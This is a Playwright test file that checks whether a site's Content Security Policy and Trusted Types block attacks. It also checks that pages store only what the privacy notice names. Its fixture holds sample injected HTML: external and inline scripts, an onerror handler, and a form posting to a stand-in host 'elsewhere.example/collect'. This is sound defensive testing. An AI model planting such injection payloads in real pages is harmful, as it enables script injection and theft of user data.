import { routes } from '@/lib/routes';
import { content } from '../support/compiled-site';
import { expect, open, scriptsHaveRun, test, withBasePath } from '../support/site';

const ELSEWHERE = 'https://elsewhere.example';

/** HTML that an attacker could inject into a page. */
const INJECTED = `
  <script>window.harm = 'inline script'</script>
  <script src="${ELSEWHERE}/harm.js"></script>
  <img src="/none.png" onerror="window.harm = 'handler'">
  <form id="stolen" action="${ELSEWHERE}/collect" method="post"><input name="a" value="b"></form>
  <iframe src="${ELSEWHERE}/frame"></iframe>
  <base href="${ELSEWHERE}/">
  <link rel="stylesheet" href="${ELSEWHERE}/harm.css">`;

test.describe('against an attacker', () => {
  test.use({ mayViolatePolicy: true });

  test('the policy blocks injected scripts, styles, frames and requests', async ({ page }) => {
    const refused = new Set<string>();
    await page.exposeFunction('recordRefusal', (directive: string) => refused.add(directive));
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        window.recordRefusal(effectiveDirective),
      );
    });
    // Hydration would remove injected elements.
    await page.route('**/*.js', (route) => route.abort());
    await page.route(withBasePath(routes.contact), async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</main>', `${INJECTED}</main>`);
      return route.fulfill({ response, body });
    });
    await page.goto(withBasePath(routes.contact));
    await page.locator('#stolen').evaluate((form: HTMLFormElement) => form.submit());
    const directives = ['base-uri', 'form-action', 'frame-src', 'script-src-attr', 'script-src-elem', 'style-src-elem'];
    await expect.poll(() => [...refused].sort()).toEqual(directives);
    expect(await page.evaluate(() => window.harm)).toBeUndefined();
    expect(page.url()).toContain(withBasePath(routes.contact));
  });

  test('Trusted Types block code from strings', async ({ page }) => {
    await open(page, routes.contact);
    const attempts = await page.evaluate(async (elsewhere) => {
      const attempt = (act: () => unknown) => {
        try {
          act();
          return 'done';
        } catch (error) {
          return error instanceof Error ? error.name : 'refused';
        }
      };
      return [
        attempt(() => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.harm = 1">')),
        attempt(() => Object.assign(document.createElement('script'), { src: `${elsewhere}/harm.js` })),
        attempt(() => Object.assign(document.createElement('script'), { text: 'window.harm = 1' })),
        // Code that Playwright evaluates may use eval; a timer in the page is subject to the policy.
        await new Promise((resolve) => {
          // biome-ignore lint/security/noGlobalEval: the policy has to block it.
          setTimeout(() => resolve(attempt(() => window.eval('window.harm = 1'))));
        }),
        attempt(() => window.trustedTypes?.createPolicy('own', {})),
      ];
    }, ELSEWHERE);
    expect(attempts).toEqual(['TypeError', 'TypeError', 'TypeError', 'EvalError', 'TypeError']);
    expect(await page.evaluate(() => window.harm)).toBeUndefined();
  });
});

test('pages store what the privacy notice says, and nothing else', { tag: '@ci' }, async ({ page, context }) => {
  await open(page, '/privacy/');
  const named = await page
    .locator('[data-stored]')
    .evaluateAll((items) => items.map((item) => item.getAttribute('data-stored')));
  const stored = () => page.evaluate(() => [...Object.keys(localStorage), ...Object.keys(sessionStorage)]);
  expect(await stored()).toEqual([]);
  await open(page, routes.contact);
  await page.getByRole('button', { name: content.words.header.theme.system }).click();
  await page.locator('form [name="message"]').fill('A message.');
  await page.reload();
  await scriptsHaveRun(page);
  expect((await stored()).sort()).toEqual(named.sort());
  expect(await context.cookies()).toEqual([]);
  const others = await page.evaluate(async () => [...(await indexedDB.databases()), ...(await caches.keys())]);
  expect(others).toEqual([]);
});

declare global {
  interface Window {
    recordRefusal: (directive: string) => void;
    harm?: string;
    trustedTypes?: { createPolicy: (name: string, rules: object) => unknown };
  }
}
